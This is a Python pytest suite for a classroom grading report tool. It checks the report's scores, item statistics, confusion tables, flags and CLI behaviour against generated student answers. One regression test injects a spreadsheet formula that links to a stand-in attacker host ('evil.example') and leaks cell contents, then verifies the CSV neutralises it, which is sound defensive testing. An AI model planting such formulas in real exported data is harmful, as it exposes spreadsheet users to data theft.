"""``canvastools report`` on a generated class graded with the real ``nbgrader autograde``.

Every number of the page, the CSV and the functions is compared with what the generated
answers give, computed here with plain set arithmetic (tests/report_classgen.py says who
answers what). The page's numbers are read back from its tables (each has an ``id``).
"""

from __future__ import annotations

import csv
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser

import pytest
import report_classgen as gen

from canvastools.commands.report.tables import EXTRA, MISSED

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


# -- expected values, from the generated answers -------------------------------------------------
def verdict(chosen, key, accepted) -> tuple[str, float]:
    s, k, a = set(chosen or ()), set(key), set(accepted)
    if not s:
        return "unanswered", 0.0
    if s == k:
        return "right", 1.0
    if s <= k | a:
        return "partly", 0.5
    return "wrong", 0.0


def flat_key() -> list[list[str]]:
    return [[g] if isinstance(g, str) else list(g) for g in gen.SPECTRUM_KEY]


def order_points(order) -> tuple[str, float]:
    if not order:
        return "unanswered", 0.0
    rank = {t: i for i, g in enumerate(flat_key()) for t in g}
    pairs = [(a, b) for a in rank for b in rank if rank[a] < rank[b]]
    pos = {t: i for i, t in enumerate(order)}
    right = sum(1 for a, b in pairs if pos[a] < pos[b])
    points = round(gen.SPECTRUM_POINTS * right / len(pairs), 4)
    return ("right" if right == len(pairs) else "partly" if right else "wrong"), points


def exercises(assignment):
    """(exercise id, {item: (key, accepted)}) in the notebook's order."""
    if assignment == gen.SIX:
        return [("cases", {c: (v[1], v[2]) for c, v in gen.SIX_CASES.items()}),
                ("motives", {r: (v[1], v[2]) for r, v in gen.SIX_ROWS.items()})]
    return [("cases8", {c: (v[1], v[2]) for c, v in gen.EIGHT_CASES.items()})]


def graded_answers(cls, assignment):
    return {s: cls.answers[assignment][s] for s in cls.graded[assignment]}


def expected_scores(cls, assignment) -> dict[str, float]:
    scores = {}
    for student, answers in graded_answers(cls, assignment).items():
        total = 0.0
        for exercise, items in exercises(assignment):
            got = (answers or {}).get(exercise, {})
            total += sum(verdict(got.get(i), k, a)[1] for i, (k, a) in items.items())
        if assignment == gen.SIX:
            total += order_points((answers or {}).get("order"))[1]
        scores[student] = round(total, 4)
    return scores


def pool(exercise):
    if exercise == "cases":
        return gen.BMG
    return gen.MOTIVATIONS if exercise == "motives" else gen.STRATEGYZER


def expected_items(cls, assignment) -> list[dict]:
    rows = []
    answers = graded_answers(cls, assignment)
    n = len(answers)
    for exercise, items in exercises(assignment):
        for item, (key, accepted) in items.items():
            chosen = [((a or {}).get(exercise) or {}).get(item) for a in answers.values()]
            verdicts = Counter(verdict(c, key, accepted)[0] for c in chosen)
            split = Counter(t for c in chosen for t in (c or ()))
            rows.append({"exercise": exercise, "item": item, "students": n,
                         **{v: verdicts[v] for v in ("right", "partly", "wrong", "unanswered")},
                         "accuracy": verdicts["right"] / n,
                         "mean_points": sum(verdict(c, key, accepted)[1] for c in chosen) / n,
                         "max_points": 1.0,
                         "split": {t: split[t] for t in pool(exercise) if split[t]}})
    if assignment == gen.SIX:
        marks = [order_points((a or {}).get("order")) for a in answers.values()]
        verdicts = Counter(v for v, _ in marks)
        rows.append({"exercise": "order", "item": "order", "students": n,
                     **{v: verdicts[v] for v in ("right", "partly", "wrong", "unanswered")},
                     "accuracy": verdicts["right"] / n,
                     "mean_points": sum(p for _, p in marks) / n,
                     "max_points": gen.SPECTRUM_POINTS, "split": {}})
    return rows


def expected_confusion(cls, assignment, exercise, ids) -> dict[tuple[str, str], int]:
    """key type x chosen type, by the rule the page states (see CONFUSION_RULE)."""
    counts: Counter = Counter()
    items = dict(exercises(assignment))[exercise]
    for answers in graded_answers(cls, assignment).values():
        for item, (key, _accepted) in items.items():
            chosen = set(((answers or {}).get(exercise) or {}).get(item) or ())
            if not chosen:
                continue
            for k in key:
                if k in chosen:
                    counts[k, k] += 1
                else:
                    outside = chosen - set(key)
                    for w in outside or {MISSED}:
                        counts[k, w] += 1
            if set(key) <= chosen:
                for w in chosen - set(key):
                    counts[EXTRA, w] += 1
    return counts


def expected_help(cls, assignment, max_score) -> list[tuple[str, str]]:
    scores = expected_scores(cls, assignment)
    roster = set(cls.roster) - set(cls.late[gen.SIX]) | set(cls.late[assignment])
    missing = sorted(s for s in roster if s not in scores and s not in cls.late[assignment])
    low = sorted((score, s) for s, score in scores.items() if score < 0.5 * max_score)
    return ([(s, "no submission") for s in missing]
            + [(s, "not graded") for s in sorted(cls.late[assignment])]
            + [(s, "graded") for _, s in low])


def hardest(rows: list[dict], n: int = 5) -> list[str]:
    ranked = sorted(enumerate(rows), key=lambda ir: (ir[1]["accuracy"], ir[1]["mean_points"]
                                                     / ir[1]["max_points"], ir[0]))
    return [r["item"] for _, r in ranked[:n]]


# -- reading the page back ------------------------------------------------------------------------
class Tables(HTMLParser):
    """Text of every cell of every table with an id: {id: [[cell, ...], ...]} (body rows)."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.images: list[str] = []
        self._table = None
        self._row: list[str] | None = None
        self._cell: list[str] | None = None
        self._head = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and "id" in attrs:
            self._table = attrs["id"]
            self.tables[self._table] = []
        elif tag == "thead":
            self._head = True
        elif tag == "tbody":
            self._head = False
        elif tag == "tr" and self._table and not self._head:
            self._row = []
        elif tag == "td" and self._row is not None:
            self._cell = []
        elif tag == "img":
            self.images.append(attrs.get("src", ""))

    def handle_endtag(self, tag):
        if tag == "td" and self._cell is not None:
            self._row.append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None:
            if self._row:  # not a group heading (th only)
                self.tables[self._table].append(self._row)
            self._row = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


@pytest.fixture(scope="module")
def cls(tmp_path_factory):
    return gen.graded_class(tmp_path_factory)


@pytest.fixture(scope="module")
def pages(cls):
    """The CLI run in the course folder for both assignments: {assignment: (html, csv)}."""
    out = {}
    for assignment in (gen.SIX, gen.EIGHT):
        page = cls.course / f"{assignment}.html"
        table = cls.course / f"{assignment}-items.csv"
        done = subprocess.run([sys.executable, "-m", "canvastools.cli", "report", assignment,
                               "-o", str(page), "--csv", str(table)], cwd=cls.course,
                              capture_output=True, text=True, env=gen.env(), timeout=600)
        assert done.returncode == 0, done.stderr
        assert f"wrote {page}" in done.stdout
        parser = Tables()
        parser.feed(page.read_text(encoding="utf-8"))
        parser.path = page
        out[assignment] = (parser, list(csv.DictReader(table.open(encoding="utf-8"))))
    return out


@pytest.fixture(scope="module")
def reports(cls):
    from canvastools.commands.report.data import load_report

    return {a: load_report(a, cls.course) for a in (gen.SIX, gen.EIGHT)}


ASSIGNMENTS = (gen.SIX, gen.EIGHT)


# -- the numbers -------------------------------------------------------------------------------
@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_scores_and_distribution(cls, reports, pages, assignment):
    report = reports[assignment]
    want = expected_scores(cls, assignment)
    got = {s.student: round(s.score, 4) for s in report.graded}
    assert got == want
    assert report.max_score == (gen.SIX_MAX if assignment == gen.SIX else gen.EIGHT_MAX)
    counts = sorted(Counter(want.values()).items())
    table = pages[assignment][0].tables["scores"]
    assert [(float(s), int(n)) for s, n in table] == counts


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_item_table(cls, reports, pages, assignment):
    from canvastools.commands.report.tables import item_table

    want = expected_items(cls, assignment)
    got = item_table(reports[assignment])
    assert [r["item"] for r in got] == [r["item"] for r in want]
    for g, w in zip(got, want, strict=True):
        for field in ("students", "right", "partly", "wrong", "unanswered", "max_points"):
            assert g[field] == w[field], (g["item"], field)
        assert g["accuracy"] == pytest.approx(w["accuracy"], abs=1e-12)
        assert g["mean_points"] == pytest.approx(w["mean_points"], abs=1e-9)
        assert list(g["split"].items()) == list(w["split"].items()), g["item"]
    # the page's table and the CSV say the same
    html_rows = pages[assignment][0].tables["items"]
    csv_rows = pages[assignment][1]
    assert len(html_rows) == len(csv_rows) == len(want)
    for cells, row, w in zip(html_rows, csv_rows, want, strict=True):
        assert cells[0] == row["item"] == w["item"]
        assert [int(c) for c in cells[3:8]] == [w["students"], w["right"], w["partly"],
                                                w["wrong"], w["unanswered"]]
        assert cells[8] == f"{w['accuracy']:.0%}"
        assert [int(row[f]) for f in ("students", "right", "partly", "wrong",
                                      "unanswered")] == [w["students"], w["right"],
                                                         w["partly"], w["wrong"],
                                                         w["unanswered"]]
        assert float(row["accuracy"]) == pytest.approx(w["accuracy"], abs=1e-4)
        assert float(row["mean_points"]) == pytest.approx(w["mean_points"], abs=1e-4)
        split = dict(p.split(":") for p in row["split"].split()) if row["split"] else {}
        assert {k: int(v) for k, v in split.items()} == w["split"]


@pytest.mark.parametrize("assignment,exercise", [(gen.SIX, "cases"), (gen.EIGHT, "cases8"),
                                                 (gen.SIX, "motives")])
def test_confusion_counts(cls, reports, pages, assignment, exercise):
    from canvastools.commands.report.tables import confusions

    ids = pool(exercise)
    want = expected_confusion(cls, assignment, exercise, ids)
    found = confusions(reports[assignment])
    choices = "motivations" if exercise == "motives" else "types"
    number, conf = next((n, c) for n, c in enumerate(found, 1) if c.choices == choices)
    assert list(conf.ids) == ids
    for key in [*ids, EXTRA]:
        for chosen in [*ids, MISSED]:
            assert conf.count(key, chosen) == want.get((key, chosen), 0), (key, chosen)
    assert sum(map(sum, conf.counts)) == sum(want.values())
    table = pages[assignment][0].tables[f"confusion-{number}"]
    assert [[int(c) for c in row[1:]] for row in table] == [list(r) for r in conf.counts]
    if exercise == "cases":  # the generated class has every margin in use
        assert conf.count(EXTRA, "self_service") + conf.count(EXTRA, "co_creation") > 0
        assert conf.count("communities", MISSED) > 0


def test_confusion_has_eight_types_for_strategyzer(reports):
    from canvastools.commands.report.tables import confusion

    conf = confusion(reports[gen.EIGHT])
    assert conf.taxonomy == "strategyzer" and len(conf.ids) == 8
    assert conf.labels("ru")[-1] == "Долгосрочные отношения"


def test_motivation_accuracy(cls, reports, pages):
    from canvastools.commands.report.tables import motivation_table

    answers = graded_answers(cls, gen.SIX)
    want = []
    for m in gen.MOTIVATIONS:
        rows = {r: v for r, v in gen.SIX_ROWS.items() if m in v[1]}
        got = [((a or {}).get("motives") or {}).get(r) for r in rows for a in answers.values()]
        marks = [verdict(((a or {}).get("motives") or {}).get(r), v[1], v[2])[0]
                 for r, v in rows.items() for a in answers.values()]
        want.append((m, len(rows), len(got), sum(1 for c in got if c and m in c),
                     marks.count("right")))
    got = [(r["motivation"], r["items"], r["answers"], r["chosen"], r["right"])
           for r in motivation_table(reports[gen.SIX])]
    assert got == want
    table = pages[gen.SIX][0].tables["motivations"]
    assert [tuple(int(c) for c in row[1:5]) for row in table] == [w[1:] for w in want]
    assert [row[5] for row in table] == [f"{w[4] / w[2]:.0%}" for w in want]
    assert [row[0] for row in table] == ["Acquisire clienti", "Fidelizzare i clienti",
                                         "Aumentare le vendite"]  # the assignment's language


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_hardest_items(cls, reports, pages, assignment):
    from canvastools.commands.report.tables import hardest_items

    want = hardest(expected_items(cls, assignment))
    assert [r["item"] for r in hardest_items(reports[assignment])] == want
    assert [row[1] for row in pages[assignment][0].tables["hardest"]] == want


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_students_needing_help(cls, reports, pages, assignment):
    from canvastools.commands.report.tables import students_needing_help

    report = reports[assignment]
    want = expected_help(cls, assignment, report.max_score)
    got = [(r["student"], r["status"]) for r in students_needing_help(report)]
    assert got == want
    table = pages[assignment][0].tables["help"]
    assert [(row[0], row[1]) for row in table] == want
    scores = expected_scores(cls, assignment)
    for row in table:
        if row[1] == "graded":
            score = round(scores[row[0]], 2)
            assert row[3] == f"low score: {score:g} of {report.max_score:g}"
    if assignment == gen.SIX:  # the empty and the broken submission are among them
        assert {"s32-empty", "s33-broken", "s38-late", "s39-missing", "s40-missing"} <= {
            s for s, _ in got}


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_flags(cls, reports, pages, assignment):
    report = reports[assignment]
    assert {(f["student"], f["code"]) for f in report.flags} == cls.flags[assignment]
    table = pages[assignment][0].tables.get("flags", [])
    assert {(row[0], row[1]) for row in table} == cls.flags[assignment]
    if assignment == gen.SIX:
        same = {row[0]: row[3] for row in table if row[1] == "identical-answers"}
        assert "s35-copy-b" in same["s34-copy-a"] and "s34-copy-a" in same["s35-copy-b"]


def test_student_without_record_is_rescored_from_the_answer_file(cls, reports):
    report = reports[gen.SIX]
    by_id = {s.student: s for s in report.students}
    for student in cls.no_record:
        assert by_id[student].source == "answer file"
        assert len(report.results[student]) == 3  # cases, motives, order: all counted
    assert {s.source for s in report.graded if s.student not in cls.no_record} == {"record"}
    statuses = Counter(s.status for s in report.students)
    assert statuses == {"graded": 37, "not graded": 1, "no submission": 2}


def test_page_is_self_contained(pages):
    for parser, _ in pages.values():
        assert len(parser.images) >= 4 and all(
            src.startswith("data:image/png;base64,") for src in parser.images)
        text = parser.path.read_text(encoding="utf-8")
        assert "http://" not in text and "https://" not in text
        assert "<script" not in text and "<link" not in text


def test_objectives_and_item_statistics_on_the_page_and_in_the_csv(cls, pages):
    """Per objective (tests/report_classgen.py OBJECTIVES), the graded students with at
    least 70% of its items' points, counted here from the generated answers."""
    parser, rows = pages[gen.SIX]
    answers = graded_answers(cls, gen.SIX)
    keys = dict(exercises(gen.SIX))
    objectives = {"distinguishes the six types": ("cases", list(keys["cases"])),
                  "links a relationship to its motivation": ("motives", list(keys["motives"])),
                  "recognises a relationship that mixes two types":
                      ("cases", ["ideas-platform", "running-app"])}
    expected = {}
    for objective, (exercise, items) in objectives.items():
        meeting = 0
        for given in answers.values():
            chosen = (given or {}).get(exercise) or {}
            points = sum(verdict(chosen.get(i), *keys[exercise][i])[1] for i in items)
            meeting += points >= 0.7 * len(items) - 1e-9
        expected[objective] = (len(answers), meeting)
    assert {r[0]: (int(r[2]), int(r[3])) for r in parser.tables["objectives"]} == expected
    accreditation = cls.course / f"{gen.SIX}-items-objectives.csv"
    got = {r["objective"]: (int(r["students"]), int(r["meeting"]))
           for r in csv.DictReader(accreditation.open(encoding="utf-8"))}
    assert got == expected
    for row in rows:     # p: the mean share of the item's points
        assert float(row["p"]) == pytest.approx(float(row["mean_points"])
                                                / float(row["max_points"]), abs=1e-4)
    assert parser.tables["item-stats"] and parser.tables["flag-rules"]
    assert not (cls.course / f"{gen.EIGHT}-items-objectives.csv").exists()


def test_labels_in_the_assignments_language(reports, pages):
    assert reports[gen.SIX].lang == "it" and reports[gen.EIGHT].lang == "ru"
    keys = [row[2] for row in pages[gen.EIGHT][0].tables["items"]]
    assert "Транзакционные отношения" in keys
    labels = [row[1] for row in pages[gen.SIX][0].tables["items"]]
    assert labels[0] == "Banca di quartiere"  # the item's company, from the widget cell


# -- the command line -----------------------------------------------------------------------------
def run_cli(*args, cwd):
    return subprocess.run([sys.executable, "-m", "canvastools.cli", *args], cwd=cwd,
                          capture_output=True, text=True, env=gen.env(), timeout=600)


def test_unknown_assignment_names_the_choices(cls):
    done = run_cli("report", "class-sixx", cwd=cls.course)
    assert done.returncode == 1
    assert "no assignment 'class-sixx'" in done.stderr
    assert "did you mean 'class-six'" in done.stderr and "Traceback" not in done.stderr


def test_default_files_are_named_after_the_assignment(cls, tmp_path):
    """Two assignments' reports, in one folder, without -o: neither overwrites the other."""
    for assignment in (gen.SIX, gen.EIGHT):
        done = run_cli("report", assignment, "--course", str(cls.course), cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        assert f"wrote report-{assignment}.html and report-{assignment}.csv" in done.stdout
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "report-class-eight.csv", "report-class-eight.html",
        "report-class-six-objectives.csv", "report-class-six.csv", "report-class-six.html"]
    six = (tmp_path / "report-class-six.csv").read_text(encoding="utf-8")
    eight = (tmp_path / "report-class-eight.csv").read_text(encoding="utf-8")
    assert "branch-adviser" in six and "branch-adviser" not in eight


def test_outside_a_course_says_where_to_run(tmp_path):
    done = run_cli("report", "class-six", cwd=tmp_path)
    assert done.returncode == 1
    assert "no nbgrader_config.py" in done.stderr and str(tmp_path) in done.stderr


# -- the figures as functions -------------------------------------------------------------------
def test_figure_functions_draw_on_the_given_axes(reports):
    import matplotlib
    from matplotlib.figure import Figure

    from canvastools.commands.report.figures import (
        plot_answer_split,
        plot_confusion,
        plot_item_results,
        plot_scores,
    )
    from canvastools.commands.report.tables import confusion, item_table

    before = dict(matplotlib.rcParams)
    report = reports[gen.EIGHT]
    for draw in (lambda ax: plot_confusion(confusion(report), ax, lang="ru"),
                 lambda ax: plot_scores(report, ax, low=0.5),
                 lambda ax: plot_item_results(item_table(report), ax),
                 lambda ax: plot_answer_split(item_table(report), gen.STRATEGYZER, ax,
                                              lang="ru", taxonomy="strategyzer")):
        ax = Figure().add_subplot()
        assert draw(ax) is ax
    assert dict(matplotlib.rcParams) == before


def test_docstring_examples():
    import doctest
    import importlib

    for name in ("canvastools.commands.report.build", "canvastools.commands.report.figures",
                 "canvastools.commands.report.item_stats",
                 "canvastools.commands.report.analysis"):
        assert doctest.testmod(importlib.import_module(name)).failed == 0


def test_report_module_is_light():
    done = subprocess.run([sys.executable, "-c", "import sys, canvastools.commands.report.build, "
                           "canvastools.commands.report.analysis; print("
                           "[m for m in ('matplotlib', 'nbgrader') if m in sys.modules])"],
                          capture_output=True, text=True, timeout=120)
    assert done.stdout.strip() == "[]", done.stdout + done.stderr


def test_low_share_out_of_range_is_refused(tmp_path):
    done = run_cli("report", "class-six", "--low", "50", cwd=tmp_path)
    assert done.returncode == 1 and "--low is a share of the points from 0 to 1" in done.stderr
    done = run_cli("report", "class-six", "--objective-threshold", "70", cwd=tmp_path)
    assert done.returncode == 1 and "--objective-threshold is a share" in done.stderr


def test_a_choice_that_looks_like_maths_is_drawn_as_written(cls, tmp_path):
    """A student's choice "$\\undefinedcmd$" (mathtext that cannot be parsed) once stopped
    the report: no page, no CSV, every flag lost. It is a choice like any other."""
    import json
    import shutil

    course = tmp_path / "course"
    shutil.copytree(cls.course, course)
    evil = r"$\undefinedcmd$"
    student = sorted(cls.no_record)[0]  # rescored from its answer file
    changed = 0
    for path in course.glob(f"*/{student}/{gen.SIX}/canvastools_answers.json"):
        data = json.loads(path.read_text(encoding="utf-8"))
        answers = data.get("exercises", data)["cases"]["answer"]
        first = sorted(answers)[0]
        answers[first] = [evil]
        path.write_text(json.dumps(data), encoding="utf-8")
        changed += 1
    assert changed
    page, table = course / "r.html", course / "r.csv"
    done = run_cli("report", gen.SIX, "-o", str(page), "--csv", str(table), cwd=course)
    assert done.returncode == 0, done.stderr
    assert page.is_file() and table.is_file()
    assert evil in page.read_text(encoding="utf-8")


def test_a_choice_that_looks_like_a_formula_stays_text_in_the_csv(cls, tmp_path):
    """A student's choice "=HYPERLINK(...)" reached the per-item CSV's ``split`` column as
    it was: a spreadsheet opening the class report would run it. Every text cell of the CSV
    is written as text (a leading ')."""
    import json
    import shutil

    course = tmp_path / "course"
    shutil.copytree(cls.course, course)
    from canvastools.grader.records import records_folder

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    # every student rescored from the answer file, each choosing only the formula for one
    # item: it starts that item's split cell
    shutil.rmtree(records_folder(course, gen.SIX), ignore_errors=True)
    changed = 0
    for path in course.glob(f"*/*/{gen.SIX}/canvastools_answers.json"):
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
            answers = data.get("exercises", data)["cases"]["answer"]
        except (ValueError, KeyError, TypeError, AttributeError):
            continue  # the class's broken or odd files stay as they are
        if path.is_symlink() or not isinstance(answers, dict) or not answers:
            continue
        answers[sorted(answers)[0]] = [evil]
        path.write_text(json.dumps(data), encoding="utf-8")
        changed += 1
    assert changed
    table = course / "r.csv"
    done = run_cli("report", gen.SIX, "-o", str(course / "r.html"), "--csv", str(table),
                   cwd=course)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(table.open(encoding="utf-8")))
    splits = [row["split"] for row in rows if evil in row["split"]]
    assert splits, rows
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
    assert any(s.startswith("'" + evil) for s in splits), splits
